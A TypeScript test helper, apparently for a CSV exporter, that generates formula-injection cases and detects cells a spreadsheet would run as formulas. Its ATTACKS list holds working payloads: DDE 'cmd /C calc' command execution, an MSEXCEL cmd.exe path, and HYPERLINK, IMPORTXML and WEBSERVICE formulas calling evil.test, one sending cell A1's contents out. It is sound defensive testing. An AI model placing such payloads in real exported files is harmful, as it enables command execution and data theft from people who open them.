import { type CastingContext, parse } from 'csv-parse/sync';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﬩'];
const BEFORE = [
  '',
  ' ',
  '\u00A0',
  '\u3000',
  '\u200B',
  '\uFEFF',
  '\t',
  '\r',
  '\n',
  '\0',
  "'",
  "''",
  '"',
  ';',
  ',',
  'a;',
  'a,',
  'a\t',
  'a\n',
  'a\r\n',
  'a;"',
  'a";',
  "a; '",
  '\t\n',
];
const ATTACKS = [
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=IMPORTXML("http://evil.test/","//a")',
  '=WEBSERVICE("http://evil.test/")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '";=1+1;"',
  '\r\n=1+1;',
];

/** Fields that some spreadsheet program in some locale treats as a formula, and harmless ones that look similar. */
export const FORMULA_FIELDS: readonly string[] = [
  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)),
  ...ATTACKS,
  ...ATTACKS.map((attack) => `b;${attack};c`),
  '-90.2',
  "'s Gravenweg",
  "it's 3-4",
  'x@y.test',
  '(=1)',
  '- gate 4\n- dock 2',
];

const LOOKS_LIKE_FORMULA = /^["\s\p{C}\p{Z}]*[=+\-@]/u;
const looksLikeFormula = (cell: string): boolean => LOOKS_LIKE_FORMULA.test(cell.normalize('NFKC'));

/** Cells as an independent parser reads them: text if quoted, numbers otherwise. */
export function readCells(text: string): (string | number | null)[][] {
  const cast = (value: string, { quoting }: CastingContext) => (quoting ? value : value === '' ? null : Number(value));
  return parse(text, { bom: true, cast, relax_column_count: false }) as (string | number | null)[][];
}

/**
 * Cells of a CSV that would run as formulas: parsed as RFC 4180, and as programs that separate only by semicolon, tab or line and ignore
 * quotation marks inside a line. Unquoted text that is not a number counts too.
 */
export function runningCells(text: string): string[] {
  const cells = readCells(text).flat();
  const texts = cells.filter((cell) => typeof cell === 'string');
  const broken = cells.filter((cell) => typeof cell === 'number' && Number.isNaN(cell)).map(String);
  const pieces = text.replace(/^\uFEFF/, '').split(/[;\t\r\n]/);
  return [...texts, ...pieces].filter(looksLikeFormula).concat(broken);
}
